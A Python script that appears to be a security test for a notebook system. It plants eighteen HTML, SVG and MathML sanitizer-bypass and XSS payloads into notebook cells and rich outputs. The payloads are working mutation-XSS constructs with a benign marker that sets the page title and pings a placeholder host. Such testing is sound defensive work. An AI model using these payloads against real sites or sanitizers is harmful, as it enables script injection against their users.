"""Markup that filters and browsers read differently: foreign elements, comments within styles, templates, tables torn apart."""
# covers: scripts
# honest: exercise2
# %% tamper
from nbformat.v4 import new_markdown_cell, new_code_cell, new_output

code = "document.title='owned-by-a-student'"
image = f'<img src=x onerror="{code}">'
quoted = image.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
pieces = [
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{quoted}\">",
    f'<svg></p><style><a id="</style>{quoted}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{image}",
    f'<noscript><p title="</noscript>{quoted}">',
    f"<svg><desc><noscript><style></desc>{image}</style></noscript></svg>",
    f'<math><annotation-xml encoding="text/html"><style><img title="</style>{quoted}">',
    f"<template>{image}</template><xmp><a title='</xmp>{quoted}'>",
    f"<plaintext>{image}",
    f"<select><template><style><!--</style><a rel='--&gt;&lt;/style&gt;{quoted}'>",
    f'<svg><animate onbegin="{code}" attributeName=x dur=1s><set attributeName=href to="javascript:{code}">',
    f'<math href="javascript:{code}">click</math><math><maction actiontype="statusline" xlink:href="javascript:{code}">x</maction></math>',
    f'<form action="javascript:{code}"><button formaction="javascript:{code}">x</button><input autofocus onfocus="{code}">',
    f'<a href="https:javascript:{code}" ping="http://x/owned-by-a-student">x</a><base href="http://x/owned-by-a-student/">',
    f'<meta http-equiv="refresh" content="0;url=http://x/owned-by-a-student"><link rel=preload href="http://x/owned-by-a-student">',
    f'<video poster="http://x/owned-by-a-student" src="http://x/owned-by-a-student" autoplay><source onerror="{code}"></video>',
    f'<p contenteditable onbeforeinput="{code}">x</p><object data="data:text/html,<script>{code}</script>"></object>',
    f'<!--><script>{code}</script>--><![CDATA[<script>{code}</script>]]><?xml <script>{code}</script>?>',
    f"<a id=MathJax></a><form name=MathJax><input name=Hub><input name=owned-by-a-student></form>",
]
for number, text in enumerate(pieces):
    notebook.cells.insert(2*number, new_markdown_cell(text, id=f"text-{number}"))
    shown = [new_output("display_data", {kind: text}) for kind in ("text/html", "text/markdown", "image/svg+xml", "text/latex")]
    notebook.cells.insert(2*number + 1, new_code_cell("", outputs=shown, id=f"code-{number}"))
# %% last
from IPython.display import HTML, SVG, Latex, Markdown, display
code = "document.title='owned-by-a-student'"
image = f'<img src=x onerror="{code}">'
quoted = image.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
for text in (
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{quoted}\">",
    f'<svg></p><style><a id="</style>{quoted}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{image}",
    f'<noscript><p title="</noscript>{quoted}">',
    f"<plaintext>{image}",
    f'<math href="javascript:{code}">click</math>',
    f"<!--><script>{code}</script>-->",
):
    display(HTML(text), Markdown(text), SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>") if False else Latex(text))
